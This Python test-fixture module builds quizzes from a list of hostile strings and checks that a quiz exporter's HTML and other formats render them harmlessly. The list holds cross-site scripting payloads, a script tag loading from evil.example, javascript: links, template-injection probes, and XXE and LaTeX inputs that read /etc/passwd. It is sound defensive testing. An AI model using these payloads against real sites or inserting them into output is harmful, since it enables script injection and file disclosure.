"""Quizzes for the tests of the exports: a plain one, and one whose texts attack every format."""

from __future__ import annotations

from functools import cache, lru_cache
from html.parser import HTMLParser

from unionstate.quiz.items import Quiz
from unionstate.quiz.readings import normalized
from unionstate.quiz.render import inline_html

# every payload that runs sets window.hacked
HOSTILE = [
    # HTML that runs
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    '"><img src=x onerror="window.hacked=1">',
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<body onload=window.hacked=1>",
    "<iframe src='javascript:parent.hacked=1'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "[x](javascript:window.hacked=1)",
    "![x](javascript:window.hacked=1)",
    "![x](/etc/passwd)",
    "<https://evil.example>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "' onclick='window.hacked=1",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{% include '/etc/passwd' %}{{ 7*7 }}${7*7}#{7*7}",
    # broken HTML and XML
    "<b>never closed",
    "</p></li></ol></body></html>",
    "<!-- never closed",
    "--><!-- -->",
    "]]>",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&nbsp;&amp;&amp;amp;&unknown;&",
    "a < b > c & d \" e ' f",
    "<",
    # GIFT
    "~ = # { } :",
    "~wrong =right #feedback ####general",
    "%50%half",
    "%-100%none",
    "[html]<b>x</b>",
    "[markdown]x",
    "::name::text{=a ~b}",
    "// a comment",
    "$CATEGORY: elsewhere",
    "{",
    "}",
    "a -> b",
    "&&058;&&035;&&061;&&123;&&125;&&126;&&010;&&092;",
    "first\n\nsecond\n// third\n0\nfourth",
    "TRUE",
    # backslashes and Markdown
    "back\\slash",
    "ends in a backslash\\",
    "two\\\\",
    "\\n is no line end",
    "\\~\\=\\#\\{\\}\\:",
    "*emphasis* **strong** `code <b>` _under_ ~~struck~~",
    "_a_ and __init__",
    "***",
    "`never closed",
    "# heading",
    "    indented",
    "```python\nimport os\n```",
    # text2qti
    "% a comment",
    "COMMENT",
    "END_COMMENT\nGROUP\npick: 1\nEND_GROUP",
    "*a) right\nb) wrong",
    "[*] right\n[ ] wrong",
    "____",
    "1. next question\n... feedback\n! solution",
    "unionstate00000000000000000000000000000000",
    # formulas, sounds and addresses of the receiving programs
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "\\(x\\) \\[y\\] $z$ $$$$",
    "[latex]\\input{/etc/passwd}[/latex] [$]x[/$] [sound:x.mp3] [[type:x]]",
    "{{c1::cloze}} {{FrontSide}}",
    "@@PLUGINFILE@@/x $IMS-CC-FILEBASE$/x",
    # characters
    "\u202eright to left\u202c \u2066isolated\u2069 \u200f\u200e",
    "שלום עולם مرحبا",
    "Беларусь і Расія: 1 234,5 «так»",
    "NUL \x00 bell \x07 escape \x1b[31m unit \x1f form \x0c",
    "not a character \ufffe \uffff",
    "next line \x85 separators \u2028 \u2029 end",
    "carriage\rreturn\r\nand line",
    "tab\tand  two   spaces",
    "  leading and trailing  ",
    "\u00a0no-break space\u00a0",
    "zero\u200bwidth\u200d joiner \ufeff mark",
    "emoji 👩‍👩‍👧 🏳️‍🌈 \U0001f4a9 é é",
    "Z̸̧̢͎a̶l̷g̴o",
    # size
    "<b onclick='window.hacked=1'>" + "0123456789&<>\"'" * 66_666,
    "long" * 5_000,
]


def texts_of(number: int, text: str) -> list[dict]:
    """A single, a multiple and a commit item with this text in every place, first, middle and last."""
    common = {"objective": "LO1", "source": ["3.2", "C01"], "prompt": text, "hints": [text, "Second hint"]}
    plain = {"text": f"plain option {number}", "feedback": "plain feedback"}
    other = {"text": f"another option {number}", "feedback": text}
    hostile = {"text": text, "feedback": text}
    return [
        {**common, "id": f"s{number}", "type": "single", "part": "section",
         "options": [{**hostile, "correct": True}, plain, other]},
        {**common, "id": f"m{number}", "type": "multiple", "part": "closing", "difficulty": 3,
         "options": [{**plain, "correct": True}, hostile, {**other, "correct": True}]},
        {**common, "id": f"c{number}", "type": "commit", "part": "before", "options": [plain, other, hostile]},
    ]  # fmt: skip


def more_texts_of(number: int, text: str) -> list[dict]:
    """An item of each other type with this text in every field.

    A text of a megabyte stands whole in one option and one stem; its beginning is in one field of each other type.
    """
    short = text.strip() if len(text) < 100_000 else "a shorter text"
    part = text[:50_000]
    slip = {"misconception": "a-slip"}

    def wrong(place: str) -> dict:
        return {"feedback": f"{short} ({place})", **slip}

    def item(kind: str, **fields: object) -> dict:
        return {
            "id": f"{kind}{number}", "type": kind, "part": "closing", "objective": "LO4", "source": ["3.2", "C01"],
            "prompt": short, "hints": [short, "Second hint"], **fields,
        }  # fmt: skip

    spellings = [short] if normalized(short) else []
    return [
        item("true-false", answer=number % 2 == 0, feedback=f"(right) {short}", wrong=wrong("verdict"),
             reasons=[{"text": text, **wrong("reason")},
                      {"text": f"{short} reason", "correct": True, "feedback": f"(so) {short}"}]),
        item("numeric", value=-1234.5, tolerance=0.25, unit=short, units=[f"{short} more"], feedback=part,
             wrong=[{"value": 150, "tolerance": 2, **wrong("150")}], otherwise=wrong("else")),
        item("short-text", accept=[*spellings, f"{short} right"], feedback=part, otherwise=wrong("else"),
             wrong=[{"accept": [f"{short} wrong", f"wrong {short}"], **wrong("wrong")}]),
        item("order", first=f"{short} first", last=f"last {short}", feedback=f"(right) {short}",
             entries=[{"text": part, **wrong("one")}, {"text": f"{short} second", **wrong("two")},
                      {"text": "third", **wrong("three")}]),
        item("match", feedback=f"(right) {short}", extra=[f"{short} extra"],
             pairs=[{"left": text, "right": f"{short} side", **wrong("one")},
                    {"left": f"{short} second", "right": short, **wrong("two")}]),
        item("classify", bins=[short, "other bin"], feedback=f"(right) {short}",
             statements=[{"text": part, "bin": "other bin", **wrong("one")},
                         {"text": f"{short} second", "bin": short, **wrong("two")},
                         {"text": "third", "bin": short, **wrong("three")}]),
        item("evidence", paragraphs=[7], answer=["7.2"], feedback=part, wrong={"7.1": wrong("7.1")}),
        item("estimate", value=40, unit=short, units=[f"{short} more"], near=20,
             feedback={"near": part, "low": f"{short} (low)", "high": f"{short} (high)"},
             misconceptions={"low": "too-small", "high": "too-large"}),
        item("draw", points=[[2000, 10], [2001, 20], [2002, 30.5], [2003, 25]], x=short, y=f"{short} y", unit=short,
             range=[0, 100], given=2, feedback=part),
        item("predict", outcome=number % 2 == 0, feedback=part),
    ]  # fmt: skip


def quiz_of(*texts: str) -> Quiz:
    """A quiz with three items for each text."""
    return Quiz.model_validate({"items": [item for place, text in enumerate(texts) for item in texts_of(place, text)]})


def every_type_of(*texts: str) -> Quiz:
    """A quiz with an item of each of the other ten types for each text."""
    items = [item for place, text in enumerate(texts) for item in more_texts_of(place, text)]
    return Quiz.model_validate({"items": items})


PLAIN = quiz_of("Which *one*?")
ATTACK = quiz_of(*HOSTILE)
MORE = every_type_of("Which *one*?", "plain")
MORE_ATTACK = every_type_of(*HOSTILE)


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.tags: set[str] = set()
        self.others: list[object] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.add(tag)
        self.others += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


HARMLESS = {"table", "tr", "th", "td", "p", "ul", "ol", "li", "em", "strong", "code", "i", "b", "br", "span"}


@lru_cache(10_000)  # a megabyte stands in many places
def shown(html: str) -> str:
    """The text a reader sees; fails if the HTML has anything but harmless tags without attributes."""
    seen = _Seen()
    seen.feed(html)
    seen.close()
    assert seen.tags <= HARMLESS and not seen.others, html[:200]
    return "".join(seen.text).strip(" \t\n\r\0\x0b")


@cache
def seen(text: str) -> str:
    """A text of an item as the book shows it."""
    return shown(str(inline_html(text)))
